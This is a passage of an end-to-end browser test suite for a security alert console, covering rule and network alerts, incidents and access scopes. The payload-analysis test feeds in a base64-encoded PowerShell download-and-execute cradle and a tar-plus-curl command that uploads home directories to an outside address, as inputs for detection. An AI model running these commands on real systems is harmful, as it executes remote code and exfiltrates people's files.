  assert.equal(await page.locator(tid('events-unavailable')).count(), 0, 'no "events not available" note for a log event');
  await page.locator(tid('no-baseline')).waitFor();
});

test('a Sigma alert shows its rule as the engine reported it (detail.sigma): title, level, ATT&CK techniques, the fields matched', async () => {
  const alert = await sigmaAlert();
  const rule = alert.alert && alert.alert.detail && alert.alert.detail.sigma;
  assert.ok(rule && typeof rule === 'object', 'the server keeps the detection with the alert, as alert.detail.sigma');
  await go(`#/alerts/${alert.id}`);
  await page.locator(tid('rule-title')).waitFor();
  assert.equal((await page.locator(tid('rule-title')).textContent()).trim(), rule.rule_title);
  assert.equal((await page.locator(`${tid('rule-card')} ${tid('rule-level')}`).textContent()).trim(), rule.level.toUpperCase());
  assert.match(await page.locator(tid('rule-facts')).textContent(), new RegExp(rule.computer));
  const techniques = rule.tags.filter((t) => /^attack\.t\d+/i.test(t)).map((t) => t.slice(7).toUpperCase());
  assert.ok(techniques.length > 0, 'the rule has ATT&CK techniques');
  for (const t of techniques) {
    await page.locator(`${tid('rule-attack')} li`, { hasText: t }).first().waitFor();
  }
  // What matched: listed on the card, and marked among the event's fields.
  const matched = Object.keys(rule.details);
  assert.ok(matched.length > 0);
  assert.deepEqual(await page.locator(tid('rule-detail')).evaluateAll((els) => els.map((e) => e.dataset.field)), matched);
  const data = sysmonEvent.Event.EventData;
  const inEvent = matched.filter((k) => k in data).sort();
  assert.ok(inEvent.length > 0, 'matched fields are in the event');
  const marked = await page.locator(`${tid('log-field')}.field-matched`).evaluateAll((els) => els.map((e) => e.dataset.field));
  assert.deepEqual(marked.sort(), inEvent, 'exactly the fields the rule matched are marked');
  await shot('alert-detail-sigma');
});

test('a Sigma alert\u2019s evidence names the event\u2019s record, and its ATT&CK ids and entities are listed', async () => {
  const alert = await sigmaAlert();
  assert.equal(alert.detector, 'sigma');
  assert.equal(alert.channel, 'threat');
  const { all, trigger } = evidenceOf(alert);
  assert.ok(trigger, 'the alert has a trigger');
  // The event posted carries its record number: the evidence refers to it by record, else by hash.
  assert.ok(['record', 'hash'].includes(trigger.reference.ref), `a record or hash reference (${trigger.reference.ref})`);
  if (trigger.reference.ref === 'record') assert.equal(trigger.reference.record_id, sysmonEvent.Event.System.EventRecordID);
  assert.deepEqual(trigger.event, sysmonEvent, 'the log event kept as the trigger\u2019s evidence');
  await go(`#/alerts/${alert.id}`);
  await page.locator(tid('evidence')).waitFor();
  const rows = page.locator(`${tid('evidence')} ${tid('evidence-row')}`);
  assert.equal(await rows.count(), all.length);
  const ref = rows.first().locator(tid('evidence-ref'));
  assert.equal(await ref.getAttribute('data-ref'), trigger.reference.ref);
  assert.equal((await ref.textContent()).trim(), referenceText(trigger.reference));
  // The event's fields, compact, in the row.
  assert.match(await rows.first().textContent(), /TargetObject/);
  // ATT&CK ids: exactly the alert's, in its order.
  assert.ok(alert.alert.attack.length > 0, 'the rule\u2019s tags give ATT&CK ids');
  assert.deepEqual(await page.locator(tid('attack-chip')).evaluateAll((els) => els.map((e) => e.dataset.attack)), alert.alert.attack);
  assert.equal(await page.locator(tid('detector')).getAttribute('data-kind'), 'sigma');
  // Entities: the host as text; a user is linked only when the alert names it.
  const chips = await entityChips();
  assert.deepEqual(chips.map(({ kind, value }) => ({ kind, value })), alert.alert.entities);
  assert.ok(chips.some((c) => c.kind === 'host' && c.value === sysmonEvent.Event.System.Computer && c.href === null), 'the host, not linked');
  for (const c of chips) assert.equal(c.href !== null, c.kind === 'user', `${c.kind} ${c.value}: linked only when a user`);
  const named = alert.alert.entities.some((e) => e.kind === 'user' && e.value === alert.user_id);
  const subject = page.locator(tid('alert-user'));
  assert.equal(await subject.evaluate((el) => el.tagName), named ? 'A' : 'SPAN', `the subject ${alert.user_id} links to a user page only when it is a user`);
  await shot('alert-detail-sigma-evidence');
});

test('an older rule alert without its detection shows its explanation as text, nothing read out of it', async () => {
  const alert = await sigmaAlert();
  // The alert as the server reads back a rule alert stored before the detection was kept
  // (an empty detail.sigma, no ATT&CK ids), with an explanation an attacker shaped (a host
  // name and field values are theirs to choose).
  const crafted = 'Sigma rule "Injected Title" (injected-rule, level critical) matched on attacker-host (Security, EventID 1): '
    + 'TargetObject=HKLM\\x, Image=C:\\evil.exe; ATT&CK t9999, initial-access';
  const only = (url) => url.pathname === `/v1/alerts/${alert.id}`;
  const older = async (route) => {
    if (route.request().method() !== 'GET') return route.fallback();
    const res = await route.fetch();
    const body = await res.json();
    const stored = body.alert.alert;
    stored.detail = {
      sigma: {
        rule_id: '', rule_title: '', level: '', tags: [], computer: null, channel: null, event_id: null, record_id: null, file: null, details: {},
      },
    };
    stored.detector = { kind: 'sigma', id: '' };
    stored.attack = [];
    body.alert.explanation = `CRITICAL (90.0): rule match (+90.0) — ${crafted}.`;
    stored.explanation = body.alert.explanation;
    for (const an of stored.anomalies || []) an.detail = crafted;
    return route.fulfill({ response: res, json: body });
  };
  await page.route(only, older);
  const before = browser.requests.length;
  try {
    await go(`#/alerts/${alert.id}`);
    await page.locator(tid('rule-card')).waitFor();
    assert.equal((await page.locator(tid('rule-detail-text')).textContent()).trim(), crafted, 'the text as it is');
    await page.locator(tid('rule-unstructured')).waitFor();
    for (const derived of ['rule-title', 'rule-level', 'rule-facts', 'rule-attack', 'rule-detail', 'attack-chip']) {
      assert.equal(await page.locator(tid(derived)).count(), 0, `no ${derived} made from the text`);
    }
    await page.locator(tid('log-field')).first().waitFor();
    assert.equal(await page.locator(`${tid('log-field')}.field-matched`).count(), 0, 'no field marked from the text');
    assert.deepEqual(browser.requests.slice(before).filter((u) => u.includes('injected')), [], 'no lookup of a rule named by the text');
  } finally {
    await page.unroute(only, older);
  }
});

/** A network-flow alert as the API gives it (GET /v1/alerts/{id}), in place of the record `base`. */
function flowRecord(base) {
  const line = '0,tcp,private,REJ,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,123,6,0.00,0.00,1.00,1.00,0.05,0.07,0.00,255,26,0.10,0.05,0.00,0.00,0.00,0.00,1.00,1.00';
  const explanation = 'HIGH (64.2): network anomaly (+64.2) — iforest-nsl-kdd-v3.wmdl scored 0.712 (threshold 0.600): count, rerror_rate.';
  return {
    ...base,
    user_id: '203.0.113.9', event_id: 'flow:e2e', threat_score: 64.2, threat_level: 'HIGH', primary_anomalies: ['network_anomaly'],
    explanation, detector: 'flow', channel: 'network',
    alert: {
      tenant: 'default', key: 'flow:e2e', timestamp: base.timestamp, subject: '203.0.113.9',
      entities: [{ kind: 'ip', value: '203.0.113.9' }, { kind: 'ip', value: '198.51.100.7' }],
      detector: { kind: 'flow', id: 'iforest-nsl-kdd-v3.wmdl' },
      level: 'HIGH', score: 64.2, confidence: 0.59,
      anomalies: [{ type: 'network_anomaly', confidence: 1, contribution: 64.2, detail: 'iforest-nsl-kdd-v3.wmdl scored 0.712 (threshold 0.600)' }],
      explanation, recommended_actions: ['Block the source address at the perimeter'],
      evidence: [{ role: 'trigger', reference: { ref: 'line', source: 'request', line: 3 }, event: { line: 3, flow: line } }],
      attack: [],
      detail: {
        flow: {
          model: 'iforest-nsl-kdd-v3.wmdl', model_kind: 'isolation_forest', format: 'nsl-kdd', score: 0.712, threshold: 0.6,
          top_features: [
            { feature: 'count', share: 0.41, value: 123 },
            { feature: 'rerror_rate', share: 0.22, value: 1 },
            { feature: 'dst_host_srv_count', share: 0.1, value: 0.0531 },
          ],
          predicted_class: ['neptune', 0.97],
        },
      },
    },
  };
}

test('a network-flow alert shows the model\u2019s verdict and the flow line, and its address as text, not a user', async () => {
  const base = (await api('/v1/alerts?limit=1')).alerts[0];
  const record = flowRecord(base);
  const only = (url) => url.pathname === `/v1/alerts/${base.id}`;
  const serve = (route) => (route.request().method() === 'GET' ? route.fulfill({ json: { alert: record, related: [] } }) : route.fallback());
  await page.route(only, serve);
  const before = browser.requests.length;
  try {
    await go(`#/alerts/${base.id}`);
    await page.locator(tid('flow-card')).waitFor();
    assert.equal(await page.locator(tid('detector')).getAttribute('data-kind'), 'flow');
    const flow = record.alert.detail.flow;
    const card = await page.locator(tid('flow-card')).textContent();
    assert.match(card, /0\.712 against the threshold 0\.600/);
    assert.match(card, /neptune \(97%\)/);
    assert.deepEqual(await page.locator(tid('flow-feature-row')).evaluateAll((els) => els.map((e) => e.dataset.feature)), flow.top_features.map((f) => f.feature));
    // The flow line as the evidence, by its line in the request.
    const rows = page.locator(`${tid('evidence')} ${tid('evidence-row')}`);
    assert.equal(await rows.count(), 1);
    assert.equal((await rows.first().locator(tid('evidence-ref')).textContent()).trim(), 'line 3 of request');
    assert.equal((await rows.first().locator(tid('evidence-flow')).textContent()).trim(), record.alert.evidence[0].event.flow);
    // An address is no user: shown as text, with no user page and no baseline asked for.
    const subject = page.locator(tid('alert-user'));
    assert.equal(await subject.evaluate((el) => el.tagName), 'SPAN');
    assert.equal((await subject.textContent()).trim(), '203.0.113.9');
    const chips = await entityChips();
    assert.deepEqual(chips.map(({ kind, value }) => ({ kind, value })), record.alert.entities);
    assert.ok(chips.every((c) => c.href === null), 'addresses are not linked');
    assert.equal(await page.locator(tid('attack-chip')).count(), 0);
    await page.locator(tid('no-baseline')).waitFor();
    assert.equal(await page.locator(tid('signals')).count(), 0, 'no behavioural signals for a flow');
    assert.equal(await page.locator(tid('rule-card')).count(), 0);
    assert.deepEqual(browser.requests.slice(before).filter((u) => u.includes('/v1/analyze/behavior')), [], 'no baseline asked for an address');
    await shot('alert-detail-flow');
  } finally {
    await page.unroute(only, serve);
  }
});

test('"Try again" on a page that failed to load runs its route again', async () => {
  browser.tolerated.push((text) => /status of 503/.test(text));
  const id = (await api('/v1/alerts?limit=1')).alerts[0].id;
  let calls = 0;
  const once = (url) => url.pathname === `/v1/alerts/${id}`;
  const fail = (route) => {
    calls += 1;
    if (calls === 1) {
      return route.fulfill({ status: 503, contentType: 'application/json', body: JSON.stringify({ error: { code: 'unavailable', message: 'unavailable (test)' } }) });
    }
    return route.fallback();
  };
  await page.route(once, fail);
  try {
    await go(`#/alerts/${id}`);
    await page.locator(`${tid('error')} button`, { hasText: 'Try again' }).click();
    await page.locator(tid('alert-title')).waitFor();
    assert.match(await page.locator(tid('alert-title')).textContent(), new RegExp(`Alert #${id}\\b`));
    assert.equal(calls, 2);
  } finally {
    await page.unroute(once, fail);
    browser.tolerated.pop();
  }
});

test('a page opened by its path (a deep link) routes to that page', async () => {
  const id = (await api('/v1/alerts?limit=1')).alerts[0].id;
  await page.goto(`${origin}/ui/alerts/${id}`);
  await page.waitForFunction((want) => location.pathname === '/ui/' && location.hash === want, `#/alerts/${id}`);
  await page.locator(tid('alert-title')).waitFor();
  assert.match(await page.locator(tid('alert-title')).textContent(), new RegExp(`Alert #${id}\\b`));
  // With a query, and one level up.
  await page.goto(`${origin}/ui/alerts?levels=CRITICAL`);
  await page.waitForFunction(() => location.pathname === '/ui/' && location.hash === '#/alerts?levels=CRITICAL');
  await page.locator(tid('alert-row')).first().waitFor();
  assert.ok((await page.locator(`${tid('alert-row')} .badge-level`).allTextContents()).every((l) => l === 'CRITICAL'));
  await page.locator(`${tid('live-state')}[data-state="live"]`).waitFor();
});

test('a user page draws the baseline', async () => {
  const user = (await api('/v1/analytics/dashboard')).alerts.top_entities.find(([u]) => !u.includes('\\'))[0];
  const beh = await api('/v1/analyze/behavior', { method: 'POST', body: { user_id: user } });
  await go(`#/users/${encodeURIComponent(user)}`);
  await page.locator(tid('user-title')).waitFor();
  assert.equal((await page.locator(tid('user-title')).textContent()).trim(), user);
  for (const chart of ['hours-chart', 'map-chart', 'volume-chart', 'weekdays-chart', 'risk-chart']) {
    await page.locator(`${tid(chart)} svg`).waitFor();
  }
  assert.equal(await page.locator(tid('user-alert-row')).count(), beh.recent_alerts.length);
  await shot('user');
  // An unknown user is a visible empty state, not an error.
  browser.tolerated.push((text, url) => /status of 404/.test(text) && url.includes('/v1/analyze/behavior'));
  await go('#/users/nobody-at-all');
  await page.locator(tid('empty')).waitFor();
  browser.tolerated.pop();
});

test('incidents group alerts and change status together, with the history of their alerts', async () => {
  const list = await api('/v1/incidents');
  await go('#/incidents');
  await page.locator(tid('incident-row')).first().waitFor();
  assert.equal(await focused(), 'H1', 'a new page: the focus is on its heading');
  assert.equal(await page.locator(tid('incident-row')).count(), Math.min(100, list.total));
  await shot('incidents');
  // The filters apply with their button, not while a select is stepped through.
  await page.locator(tid('incident-filter-status')).selectOption('new');
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => location.hash), '#/incidents', 'changing a select does not navigate');
  await page.locator(tid('incident-filter-apply')).click();
  await page.waitForFunction(() => location.hash === '#/incidents?status=new');
  await page.locator(`${tid('incident-row')}, ${tid('empty')}`).first().waitFor();
  assert.equal(await focused(), 'incident-filter-apply', 'the same page with another query: the focus stays on the control');
  assert.equal(await page.locator(tid('incident-filter-status')).inputValue(), 'new');
  await go('#/incidents');
  await page.locator(tid('incident-row')).first().waitFor();
  const inc = list.incidents.find((i) => i.alerts > 1 && i.status === 'new') || list.incidents[0];
  await page.locator(`${tid('incident-row')}[data-incident-id="${inc.id}"] ${tid('incident-link')}`).click();
  await page.locator(tid('incident-title')).waitFor();
  assert.equal(await page.locator(tid('incident-alert-row')).count(), inc.alerts);
  const before = browser.requests.length;
  await page.locator(tid('incident-set-acknowledged')).click();
  await page.locator(tid('incident-status')).filter({ hasText: 'Acknowledged' }).waitFor();
  for (const id of inc.alert_ids) {
    assert.equal((await api(`/v1/alerts/${id}`)).alert.status, 'acknowledged', `alert ${id} of incident ${inc.id}`);
  }
  await page.locator(`${tid('audit-table')} ${tid('audit-row')}`).first().waitFor();
  // The change is one entry of the incident's, however many alerts it holds.
  const rows = page.locator(tid('audit-row'));
  await rows.filter({ hasText: `(${inc.alerts} alerts)` }).first().waitFor();
  // The incident's and each alert's history by target, not a scan of the latest entries.
  const targets = browser.requests.slice(before).filter((u) => u.includes('/v1/audit')).map((u) => new URL(u).searchParams.get('target'));
  assert.deepEqual([...new Set(targets)].sort(), [`incident:${inc.id}`, ...inc.alert_ids.map((id) => `alert:${id}`)].sort());
  await shot('incident-detail');
  // An incident id is digits, like an alert's: anything else is not asked of the server.
  const asked = browser.requests.length;
  for (const bad of ['12abc', '..%2F..%2Fv1%2Fwhoami', '-1']) {
    await go(`#/incidents/${bad}`);
    await page.locator(tid('empty'), { hasText: 'is not an incident id' }).waitFor();
  }
  assert.deepEqual(browser.requests.slice(asked).filter((u) => /\/v1\/(incidents\/|whoami)/.test(u)), [], 'no request for an invalid id');
});

test('a change is not aborted by leaving the page, and does not pull the analyst back', async () => {
  // Open alerts of the lowest scores, which no other test looks at.
  const low = (await api('/v1/alerts?status=new&sort=score&order=asc&limit=10')).alerts;
  assert.ok(low.length >= 3, 'the sample has open alerts');
  const one = low[0];

  // The alert page: resolve, and leave before the server has answered.
  const patch = await hold((url) => url.pathname === `/v1/alerts/${one.id}`, (req) => req.method() === 'PATCH');
  try {
    await go(`#/alerts/${one.id}`);
    await page.locator(tid('set-status-resolved')).click();
    await go('#/incidents');
    await page.locator(tid('incident-row')).first().waitFor();
    const answered = page.waitForResponse((r) => r.request().method() === 'PATCH' && new URL(r.url()).pathname === `/v1/alerts/${one.id}`, { timeout: 10_000 });
    patch.release();
    assert.equal((await answered).status(), 200, 'the change reached the server');
    await page.locator(tid('toast'), { hasText: `Alert #${one.id}` }).waitFor();
    assert.equal((await api(`/v1/alerts/${one.id}`)).alert.status, 'resolved');
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => location.hash), '#/incidents', 'still where the analyst went');
    assert.equal(await page.locator(tid('incident-row')).count() > 0, true);
  } finally {
    await patch.done();
  }

  // A bulk action: the same.
  await go('#/alerts?status=new&sort=score&order=asc');
  await page.locator(tid('alert-row')).first().waitFor();
  const ids = [];
  for (let i = 0; i < 2; i += 1) {
    const box = page.locator(tid('row-select')).nth(i);
    await box.check();
    ids.push(Number(await box.getAttribute('value')));
  }
  const bulk = await hold((url) => url.pathname === '/v1/alerts/bulk');
  try {
    await page.locator(tid('bulk-ack')).click();
    await go('#/overview');
    await page.locator(tid('kpi-total')).waitFor();
    const answered = page.waitForResponse((r) => new URL(r.url()).pathname === '/v1/alerts/bulk', { timeout: 10_000 });
    bulk.release();
    assert.equal((await answered).status(), 200);
    await page.locator(tid('toast'), { hasText: 'acknowledged' }).first().waitFor();
    for (const id of ids) assert.equal((await api(`/v1/alerts/${id}`)).alert.status, 'acknowledged', `alert ${id}`);
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => location.hash), '#/overview', 'not taken back to the alerts');
  } finally {
    await bulk.done();
  }
});

test('notifications can be closed; errors are alerts that stay until closed', async () => {
  await page.mouse.move(2, 2);
  await page.evaluate(async () => {
    const { toast } = await import('/ui/js/dom.js');
    toast('Probe: saved.', 'ok', 1500);
    toast('Probe: could not save.', 'error', 1500);
  });
  const info = page.locator(tid('toast'), { hasText: 'Probe: saved.' });
  const err = page.locator(tid('toast'), { hasText: 'Probe: could not save.' });
  await info.locator(tid('toast-close')).waitFor();
  assert.equal(await err.getAttribute('role'), 'alert');
  assert.equal(await info.getAttribute('role'), null, 'others are announced by the polite region they are in');
  assert.equal(await page.locator(`[role="status"] ${tid('toast')}`, { hasText: 'Probe: saved.' }).count(), 1);
  await info.waitFor({ state: 'detached', timeout: 5000 });
  await page.waitForTimeout(500);
  assert.equal(await err.count(), 1, 'the error is still there');
  await err.locator(tid('toast-close')).click();
  assert.equal(await err.count(), 0, 'closed');
});

test('models and rules show what the server loaded: the trees and network models, 5 rules and the skipped ones', async () => {
  const models = await api('/v1/models');
  const rules = await api('/v1/rules?limit=50');
  await go('#/system');
  await page.locator(tid('server-facts')).waitFor();
  await page.locator(tid('models-table')).waitFor();
  await page.locator(tid('rules-table')).waitFor();
  assert.equal(await page.locator(`${tid('models')} ${tid('error')}, ${tid('rules')} ${tid('error')}`).count(), 0, 'no error box');
  // The models.
  assert.equal(await page.locator(tid('model-row')).count(), models.models.length);
  for (const slot of ['trees', 'network']) {
    const m = models.models.find((x) => x.slot === slot);
    assert.ok(m, `the server has a ${slot} model`);
    const row = page.locator(`${tid('model-row')}[data-slot="${slot}"]`);
    await row.waitFor();
    assert.equal((await row.locator(tid('model-name')).textContent()).trim(), path.basename(m.label));
    await row.locator(tid('model-drift')).waitFor();
  }
  assert.match(await page.locator(`${tid('model-row')}[data-slot="trees"]`).textContent(), /ROC AUC/);
  // The rules: 5 loaded, listed; the skipped ones with their reasons.
  assert.equal(rules.loaded, 5);
  assert.equal(digits(await page.locator(tid('rules-loaded')).textContent()), 5);
  assert.equal(await page.locator(tid('rule-row')).count(), rules.rules.length);
  assert.ok(rules.skipped.length > 0);
  assert.equal(digits(await page.locator(tid('rules-skipped')).textContent()), rules.skipped.length);
  assert.equal(await page.locator(tid('skipped-row')).count(), rules.skipped.length);
  const reasons = await page.locator(tid('skipped-reason')).allTextContents();
  for (const r of reasons) {
    assert.ok(r.trim().length > 5 && r.trim() !== '—', `a reason: ${r}`);
    assert.doesNotMatch(r, /^\//, 'without the file path repeated');
  }
  assert.ok(reasons.some((r) => /unknown modifier/.test(r)), 'the unknown-modifier rule says why');
  await shot('system');
  // Search.
  await page.locator(tid('rules-search')).fill('registry');
  await page.locator(tid('rules-search')).press('Enter');
  await page.waitForFunction(() => location.hash.includes('q=registry'));
  const found = await api('/v1/rules?q=registry&limit=50');
  await page.waitForFunction((n) => document.querySelectorAll('[data-testid="rule-row"]').length === n, found.rules.length);
  assert.ok(found.rules.length > 0 && found.rules.length < rules.rules.length);
});

test('payload analysis: a pasted command gets its verdict with its layers and patterns, its alert shows the command line, a job is followed to its verdict', async () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
  const encoded = `powershell.exe -nop -w hidden -enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
  await go('#/payload');
  await page.locator(tid('payload-input')).fill(encoded);
  await page.locator(tid('payload-submit')).click();
  await page.locator(tid('verdict-summary')).waitFor();
  assert.equal((await page.locator(tid('verdict-action')).textContent()).trim(), 'BLOCK');
  assert.equal(await page.locator(tid('verdict-layer')).count(), 2);
  assert.match(await page.locator(tid('verdict-layer')).nth(1).textContent(), /DownloadString/);
  assert.ok(await page.locator(`${tid('verdict-patterns')} tbody tr`).count() > 0);
  assert.match(await page.locator(tid('verdict-attack')).textContent(), /T1105/);
  assert.match(await page.locator(tid('view-dynamic')).textContent(), /did not run/);
  // The model's reasons: its probability, the n-gram model's own beside the combiner's,
  // the features each way.
  await page.locator(tid('verdict-model-card')).waitFor();
  assert.match(await page.locator(tid('model-probability')).textContent(), /^\d+%$/);
  assert.match(await page.locator(tid('model-text-probability')).textContent(), /^\d+%$/);
  assert.ok(await page.locator(`${tid('model-raised')} tbody tr`).count() > 0);
  assert.ok(await page.locator(`${tid('model-combined')} tbody tr`).count() > 0);
  await shot('payload-verdict');
  // Its alert: the command line as submitted and decoded.
  await page.locator(tid('verdict-alert')).click();
  await page.locator(tid('payload-card')).waitFor();
  assert.match(await page.locator(tid('payload-decoded')).textContent(), /DownloadString/);
  assert.equal((await page.locator(tid('payload-text')).textContent()).trim(), encoded);
  await shot('payload-alert');
  // A job: this server has no sandbox, so it is analysed statically and says why.
  await go('#/payload');
  await page.locator(tid('payload-input')).fill('tar czf /tmp/a.tgz /home && curl -T /tmp/a.tgz http://203.0.113.5/up');
  await page.locator(tid('payload-shell')).selectOption('bash');
  await page.locator(tid('payload-sandbox')).check();
  await page.locator(tid('payload-submit')).click();
  await page.waitForFunction(() => /#\/payload\/jobs\/\d+$/.test(location.hash));
  await page.waitForFunction(() => document.querySelector('[data-testid="job-status"]')?.textContent === 'done', null, { timeout: 20_000 });
  await page.locator(tid('verdict-summary')).waitFor();
  assert.match(await page.locator(tid('verdict-notes')).textContent(), /not run in the sandbox/);
  await shot('payload-job');
});

const LIVE_EVENT = (id, ts) => ({
  event_id: id, user_id: 'maria.gonzalez', activity_type: 'download', timestamp: ts,
  location: 'Lagos, NG', latitude: 6.4541, longitude: 3.3947,
  device_fingerprint: `e2e${id}`.padEnd(32, '0').slice(0, 32), device_name: 'Unknown Android',
  ip_address: '102.89.1.10', resource_accessed: 'finance-reports', data_transferred_gb: 25.0,
  duration_seconds: 900, success: true, user_agent: 'curl/8.0',
});

test('a new alert appears live in the feed without a reload, also after the server restarts', async () => {
  await go('#/overview');
  await page.locator(`${tid('live-state')}[data-state="live"]`).waitFor();
  await page.evaluate(() => { window.__sameDocument = true; });
  const res = await api('/v1/detect/realtime', { method: 'POST', body: { events: [LIVE_EVENT('e2e-live-1', '2026-05-06T03:30:00Z')] } });
  // The behavioural alert comes first; the account's earlier anomalies of the sample may
  // also make it a step of the graph's progression finding about the account.
  const kinds = await Promise.all(res.alerts.map(async (a) => (await api(`/v1/alerts/${a.id}`)).alert.detector));
  assert.equal(kinds[0], 'ueba', 'the crafted event raises a behavioural alert');
  assert.ok(kinds.slice(1).every((k) => k === 'graph'), `only the graph adds to it: ${kinds}`);
  const id = res.alerts[0].id;
  await page.locator(`${tid('feed-item')}[data-alert-id="${id}"]`).waitFor({ timeout: 15_000 });
  assert.equal(await page.evaluate(() => window.__sameDocument), true, 'no reload');
  assert.ok(!(await page.locator(tid('nav-new-count')).isHidden()), 'the new alert is counted on the Alerts tab');
  // The tallies follow without a reload.
  const total = (await api('/v1/analytics/dashboard')).alerts.total;
  await page.waitForFunction((n) => Number(document.querySelector('[data-testid="kpi-total"]').textContent.replace(/\D/g, '')) === n, total, { timeout: 15_000 });

  // The server goes away and comes back: the feed reconnects by itself and resumes.
  browser.tolerated.push((text) => /ERR_CONNECTION_REFUSED|ERR_EMPTY_RESPONSE|ERR_CONNECTION_RESET|ERR_INCOMPLETE_CHUNKED_ENCODING/.test(text));
  await warden.stop();
  await page.locator(`${tid('live-state')}[data-state="reconnecting"]`).waitFor({ timeout: 15_000 });
  await warden.start();
  // Baselines live in memory: send the sample again (stored alerts are not duplicated).
  await sendSample();
  await page.locator(`${tid('live-state')}[data-state="live"]`).waitFor({ timeout: 40_000 });
  const again = await api('/v1/detect/realtime', { method: 'POST', body: { events: [LIVE_EVENT('e2e-live-2', '2026-05-06T05:10:00Z')] } });
  assert.ok(again.alerts.length >= 1);
  await page.locator(`${tid('feed-item')}[data-alert-id="${again.alerts[0].id}"]`).waitFor({ timeout: 15_000 });
  assert.equal(await page.evaluate(() => window.__sameDocument), true, 'still no reload');
  browser.tolerated.pop();
});

test('dark theme: the toggle switches and is remembered', async () => {
  await go('#/overview');
  await page.locator(tid('kpi-total')).waitFor();
  const lightBg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const toggle = page.locator(tid('theme-toggle'));
  assert.equal(await toggle.getAttribute('aria-label'), 'Dark theme');
  assert.equal(await toggle.getAttribute('aria-pressed'), 'false');
  await toggle.click();
  assert.equal(await page.evaluate(() => document.documentElement.getAttribute('data-theme')), 'dark');
  assert.equal(await toggle.getAttribute('aria-label'), 'Dark theme', 'the name stays; the state is aria-pressed');
  assert.equal(await toggle.getAttribute('aria-pressed'), 'true');
  assert.equal(await page.evaluate(() => localStorage.getItem('warden.theme')), 'dark');
  const darkBg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.notEqual(darkBg, lightBg);
  await page.reload();
  await page.locator(tid('kpi-total')).waitFor();
  assert.equal(await page.evaluate(() => document.documentElement.getAttribute('data-theme')), 'dark', 'remembered after a reload');
  await page.locator(`${tid('trend-chart')} svg`).waitFor();
  await shot('overview-dark');
  const top = (await api('/v1/alerts?levels=CRITICAL&limit=1')).alerts[0];
  await go(`#/alerts/${top.id}`);
  await page.locator(`${tid('map-chart')} svg`).waitFor();
  await shot('alert-detail-dark');
  const sigma = (await api('/v1/alerts?anomaly_type=rule_match&sort=score&limit=1')).alerts[0];
  await go(`#/alerts/${sigma.id}`);
  await page.locator(tid('log-fields')).first().waitFor();
  await page.locator(tid('rule-card')).waitFor();
  await shot('alert-detail-sigma-dark');
  await page.locator(tid('theme-toggle')).click();
  assert.equal(await page.evaluate(() => document.documentElement.getAttribute('data-theme')), 'light');
});

test('the pages are usable on a narrow screen (390×844)', async () => {
  await page.setViewportSize({ width: 390, height: 844 });
  try {
    const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    await go('#/overview');
    await page.locator(tid('kpi-total')).waitFor();
    await page.locator(`${tid('trend-chart')} svg`).waitFor();
    assert.ok(await overflow() <= 1, 'no sideways scrolling on the overview');
    assert.ok(await page.locator(tid('nav-alerts')).isVisible());
    await shot('overview-narrow', { fullPage: false });
    await go('#/alerts');
    await page.locator(tid('alert-row')).first().waitFor();
    assert.ok(await overflow() <= 1, 'no sideways scrolling on the alerts page');
    assert.ok(await page.locator(tid('row-select')).first().isVisible());
    await page.evaluate(() => window.scrollTo(0, 560));
    await shot('alerts-narrow', { fullPage: false });
    const top = (await api('/v1/alerts?levels=CRITICAL&limit=1')).alerts[0];
    await go(`#/alerts/${top.id}`);
    await page.locator(tid('alert-explanation')).waitFor();
    assert.ok(await overflow() <= 1, 'no sideways scrolling on an alert');
    await shot('alert-detail-narrow');
    const sigma = (await api('/v1/alerts?anomaly_type=rule_match&sort=score&limit=1')).alerts[0];
    await go(`#/alerts/${sigma.id}`);
    await page.locator(tid('log-fields')).first().waitFor();
    assert.ok(await overflow() <= 1, 'no sideways scrolling on a rule alert');
  } finally {
    await page.setViewportSize({ width: 1280, height: 800 });
  }
});

test('a read-only token sees its scope, no triage controls and a note instead of the audit history', async () => {
  // The admin's whoami, asked at a reload, answers only after the switch to another token:
  // the late answer must not make the new caller an admin again.
  const late = await hold((url) => url.pathname === '/v1/whoami', async (req) => (await req.headerValue('authorization')) === `Bearer ${token}`);
  try {
    await page.reload();
    await page.locator(tid('sign-out')).click();
    await page.locator(tid('signin-form')).waitFor();
    assert.equal(await page.evaluate(() => sessionStorage.getItem('warden.token')), null, 'signing out forgets the token');
    assert.equal(await page.evaluate(() => sessionStorage.getItem('warden.alerts.trail')), null, 'and the alerts\u2019 cursor trail');
    assert.ok(await page.locator(tid('whoami')).isHidden());
    await signIn(readToken);
    await page.locator(tid('signin-form')).waitFor({ state: 'detached' });
    await page.locator(tid('whoami')).waitFor();
    assert.equal((await page.locator(tid('whoami-scope')).textContent()).trim(), 'read');
    const answered = page.waitForResponse(async (r) => new URL(r.url()).pathname === '/v1/whoami'
      && (await r.request().headerValue('authorization')) === `Bearer ${token}`, { timeout: 10_000 });
    late.release();
    await answered;
    await page.waitForTimeout(200);
  } finally {
    await late.done();
  }
  assert.equal((await page.locator(tid('whoami-scope')).textContent()).trim(), 'read', 'the old token\u2019s answer is dropped');
  const before = browser.requests.length;
  // The list: no selection or bulk bar, a note instead.
  await go('#/alerts');
  await page.locator(tid('alert-row')).first().waitFor();
  await page.locator(tid('read-only-note')).waitFor();
  assert.equal(await page.locator(tid('bulk-bar')).count(), 0);
  assert.equal(await page.locator(tid('row-select')).count(), 0);
  await shot('alerts-read-only', { fullPage: false });
  // An alert: no status buttons or triage form, and no audit request at all.
  const top = (await api('/v1/alerts?limit=1')).alerts[0];
  await go(`#/alerts/${top.id}`);
  await page.locator(tid('alert-explanation')).waitFor();
  await page.locator(`${tid('triage')} ${tid('read-only-note')}`).waitFor();
  assert.equal(await page.locator('[data-testid^="set-status-"]').count(), 0);
  assert.equal(await page.locator(tid('triage-form')).count(), 0);
  await page.locator(tid('audit-forbidden')).waitFor();
  // An incident: no workflow buttons.
  const inc = (await api('/v1/incidents?limit=1')).incidents[0];
  await go(`#/incidents/${inc.id}`);
  await page.locator(tid('incident-title')).waitFor();
  await page.locator(`${tid('incident-triage')} ${tid('read-only-note')}`).waitFor();
